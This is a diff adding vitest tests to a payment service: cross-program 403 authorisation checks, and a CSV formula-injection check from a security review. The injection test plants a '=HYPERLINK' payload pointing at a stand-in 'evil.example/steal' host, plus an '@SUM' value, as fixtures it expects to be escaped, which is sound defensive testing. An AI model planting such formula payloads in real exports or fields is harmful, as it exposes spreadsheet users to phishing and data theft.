@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { and, eq, like } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ROLES } from '@certs/shared/auth/roles';
@@ -5,6 +6,7 @@ import { PAYMENT_MESSAGES } from '@certs/shared/payment/payment.contract';
 import { TEST_JWT_SECRET } from '../../../test/build-test-app';
 import { createInvoicedApplication, type InvoicedApplication } from '../../../test/factories/invoice.factory';
 import { buildPaymentTestApp, type PaymentTestApp } from '../../../test/factories/payment.factory';
+import { addProgramUser, createStaffOfAnotherProgram } from '../../../test/factories/program.factory';
 import { createUser, type CreatedUser } from '../../../test/factories/user.factory';
 import { bearer, signIn } from '../../../test/sign-in';
 import { applicationHistory, applications } from '../../db/schema/application';
@@ -534,6 +536,25 @@ describe('ownership', () => {
     expect((await t.app.inject({ method: 'GET', url: `${PG}/payment/${trackerId}/trackerdata` })).statusCode).toBe(401);
   });
 
+  it("another program's staff get 403 on every payment read; the program's assessor reads them", async () => {
+    const inv = await invoiced();
+    const trackerId = await openLink(inv);
+    const paymentId = (await paymentRow(trackerId)).id;
+    const db = t.database.db;
+    const assessor = await createUser(db, { role: ROLES.AccountContributor, menuItems: ['Programs'] });
+    await addProgramUser(db, programId, assessor.id, 'assessor');
+    const [assessorJwt, otherJwt] = await Promise.all([assessor, await createStaffOfAnotherProgram(db)].map(async (user) => (await signIn(t.app, user)).jwt));
+    const reads = [`${PG}/payment/byapplication/${inv.applicationId}`, `${PG}/payment/${trackerId}`, `${PG}/payment/${paymentId}`, `${PG}/payment/${trackerId}/trackerdata`];
+    for (const url of reads) {
+      const refused = await get(url, otherJwt!);
+      expect([url, refused.statusCode]).toEqual([url, 403]);
+      expect(refused.body).not.toContain(trackerId);
+      expect([url, (await get(url, assessorJwt!)).statusCode]).toEqual([url, 200]);
+      expect([url, (await get(url, inv.jwt)).statusCode]).toEqual([url, 200]);
+    }
+    expect((await post(`${PG}/afterpayment/callback`, { trackerId }, otherJwt!)).statusCode).toBe(403);
+  });
+
   it('the test gateway page needs the signed token', async () => {
     const inv = await invoiced();
     const trackerId = await openLink(inv);
@@ -584,5 +605,27 @@ describe('payments report', () => {
     expect((await get(`${PG}/all/reports/csv`, noReportsJwt)).statusCode).toBe(403);
     expect((await get(`${PG}/all/reports`, inv.jwt)).statusCode).toBe(403);
     expect((await get(`${PG}/all/reports/programs`, noReportsJwt)).statusCode).toBe(403);
+  });
+});
+
+describe('payments report CSV in a spreadsheet (security review, issue 15 item 10)', () => {
+  it('writes a name or reference that would start a formula as quoted text, and amounts as numbers', async () => {
+    const formula = '=HYPERLINK("http://evil.example/steal","Open invoice")';
+    const applicant = await createUser(t.database.db, { role: ROLES.Applicant, firstName: formula, lastName: 'Payer' });
+    const inv = await invoiced({ applicant });
+    await openLink(inv);
+    const verified = await post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: '@SUM(1+1) BANK-FORMULA-1' }, managerJwt);
+    expect(verified.statusCode, verified.body).toBe(200);
+
+    const csv = await get(`${PG}/all/reports/csv?gateway=offline`, managerJwt);
+    expect(csv.statusCode).toBe(200);
+    const [header, ...rows] = parse(csv.body, { bom: true }) as string[][];
+    const applicantAt = header?.indexOf('Applicant') ?? -1;
+    const row = rows.find((cells) => cells.some((cell) => cell.includes('BANK-FORMULA-1')));
+    expect(row?.[applicantAt]).toBe(`'${formula} Payer`);
+    expect(row).toContain("'@SUM(1+1) BANK-FORMULA-1");
+    expect(row?.[header?.indexOf('Amount') ?? -1]).toBe('350.00');
+    // No cell of the whole file starts a formula.
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell))).toEqual([]);
   });
 });
